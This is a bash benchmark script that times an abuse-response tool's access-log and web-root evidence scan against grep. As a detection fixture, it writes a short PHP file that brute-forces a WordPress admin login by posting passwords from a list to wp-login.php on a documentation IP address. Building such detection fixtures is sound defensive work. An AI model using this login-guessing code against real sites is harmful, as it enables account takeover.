#!/usr/bin/env bash
# Benchmark of the host evidence scan (analyze/host) against grep.
#
#   bench/logscan.sh                 # 1 GiB access log, 100,000-file web root
#   SIZE=200000000 FILES=20000 bench/logscan.sh   # a quicker run
#
# In a temp dir (removed at exit) it generates a combined-format access log
# with a few dozen lines holding the target 203.0.113.44 or requests to the
# flagged script /wp-content/uploads/2026/04/cache.php (half of them in the
# abuse window 20:00–22:00), then measures, with a warm page cache and
# keeping the second of two runs:
#   1. grep -F -c 203.0.113.44 FILE
#   2. bench/logscan -scan FILE: host.Collect with AccessLogs set, looking
#      for the target as grep does; then again with a one-script web root,
#      so the search for requests to the flagged script runs too
#   3. bench/logscan -scan-root DIR: host.Collect over a generated web root
# Progress goes to stderr, a Markdown table to stdout.
set -euo pipefail
cd "$(dirname "$0")/.."

SIZE=${SIZE:-1073741824}
FILES=${FILES:-100000}
TARGET=203.0.113.44

TMP=$(mktemp -d /tmp/abuse-responder-logscan.XXXXXX)
trap 'rm -rf "$TMP"' EXIT
BIN=$TMP/logscan
LOG=$TMP/access.log
SITE=$TMP/site
ROOT=$TMP/root

say() { echo "logscan.sh: $*" >&2; }
now() { date +%s.%N; }
elapsed() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%.3f", b - a }'; }
# field KEY LINE: the value of KEY=value in LINE.
field() { tr ' ' '\n' <<<"$2" | sed -n "s/^$1=//p"; }

go build -o "$BIN" ./bench/logscan

say "generating a $SIZE-byte access log"
t0=$(now)
gen=$("$BIN" -gen-log "$LOG" -size "$SIZE")
t1=$(now)
say "$gen (in $(elapsed "$t0" "$t1") s)"
bytes=$(stat -c %s "$LOG")

# The flagged script, in a web root of its own, so the log scan also looks
# for requests to it.
mkdir -p "$SITE/wp-content/uploads/2026/04"
cat >"$SITE/wp-content/uploads/2026/04/cache.php" <<'EOF'
<?php
$passwords = file('/tmp/p.txt');
$mh = curl_multi_init();
foreach ($passwords as $p) {
	$ch = curl_init('https://203.0.113.44/wp-login.php');
	curl_setopt($ch, CURLOPT_POSTFIELDS, 'log=admin&pwd=' . $p);
	curl_multi_add_handle($mh, $ch);
}
do { curl_multi_exec($mh, $running); } while ($running > 0);
EOF

cat "$LOG" >/dev/null # warm the page cache

grep_run() {
	local t0 t1 n
	t0=$(now)
	n=$(grep -F -c "$TARGET" "$LOG")
	t1=$(now)
	echo "count=$n seconds=$(elapsed "$t0" "$t1")"
}
say "grep, twice"
grep_run >/dev/null
g=$(grep_run)
say "grep: $g"

# ours RUN...: runs the scan under /usr/bin/time -v when present, and adds
# its peak RSS (rss_mb=) to the scan's own output line.
ours() {
	local out rss
	if [ -x /usr/bin/time ]; then
		out=$(/usr/bin/time -v -o "$TMP/time.txt" "$BIN" "$@" 2>"$TMP/stderr.txt")
		rss=$(awk -F: '/Maximum resident set size/ { printf "%.1f", $2 / 1024 * 1.048576 }' "$TMP/time.txt")
	else
		out=$("$BIN" "$@" 2>"$TMP/stderr.txt")
		rss=$(field peak_rss_mb "$out")
	fi
	if [ -s "$TMP/stderr.txt" ]; then cat "$TMP/stderr.txt" >&2; fi
	echo "$out rss_mb=$rss"
}
say "our access-log scan for the target (whole day), twice"
ours -scan "$LOG" >/dev/null
o=$(ours -scan "$LOG")
say "ours: $o"
say "our access-log scan for the target and the flagged script (whole day), twice"
ours -scan "$LOG" -webroot "$SITE" >/dev/null
s=$(ours -scan "$LOG" -webroot "$SITE")
say "ours: $s"
w=$(ours -scan "$LOG" -webroot "$SITE" -window)
say "ours, abuse window only: $w"

say "generating a $FILES-file web root"
t0=$(now)
"$BIN" -gen-root "$ROOT" -files "$FILES" >&2
t1=$(now)
say "generated in $(elapsed "$t0" "$t1") s"
ours -scan-root "$ROOT" >/dev/null
r=$(ours -scan-root "$ROOT")
say "web root: $r"

gs=$(field seconds "$g")
os=$(field seconds "$o")
grate=$(awk -v b="$bytes" -v s="$gs" 'BEGIN { printf "%.0f", b / 1e6 / s }')
orate=$(awk -v b="$bytes" -v s="$os" 'BEGIN { printf "%.0f", b / 1e6 / s }')
srate=$(awk -v b="$bytes" -v s="$(field seconds "$s")" 'BEGIN { printf "%.0f", b / 1e6 / s }')
ratio=$(awk -v a="$orate" -v b="$grate" 'BEGIN { printf "%.2f", a / b }')
rev=$(git rev-parse --short HEAD 2>/dev/null || echo unknown)
if [ -n "$(git status --porcelain --untracked-files=no 2>/dev/null)" ]; then rev="$rev+dirty"; fi

cat <<EOF
Code: commit $rev; $(nproc) cores; $(go env GOVERSION); $(grep -m1 'model name' /proc/cpuinfo | cut -d: -f2 | sed 's/^ //').

| measure | value |
|---|---|
| access log | $(awk -v b="$bytes" 'BEGIN { printf "%.2f GB", b / 1e9 }'), $(field target_lines "$gen") lines with $TARGET ($(field target_in_window "$gen") in the window), $(field script_lines "$gen") requests to cache.php ($(field script_in_window "$gen") in the window) |
| \`grep -F -c $TARGET\` | $gs s, **$grate MB/s**, count $(field count "$g") |
| ours: Collect with AccessLogs, the target, whole day | $os s, **$orate MB/s** ($ratio × grep; goal ≥ 0.5), target lines $(field target_lines "$o"), peak RSS **$(field rss_mb "$o") MB** (goal ≤ 64) |
| ours: the same + the flagged script (one-file web root) | $(field seconds "$s") s, $srate MB/s, target lines $(field target_lines "$s"), script requests $(field script_lines "$s"), peak RSS $(field rss_mb "$s") MB |
| ours: the same, abuse window 20:00–22:00 | $(field seconds "$w") s, target lines $(field target_lines "$w"), script requests $(field script_lines "$w") |
| ours: Collect, WebRoots only, $FILES files | $(field seconds "$r") s, $(field scripts "$r") scripts flagged, $(field findings "$r") findings, peak RSS $(field rss_mb "$r") MB |
EOF
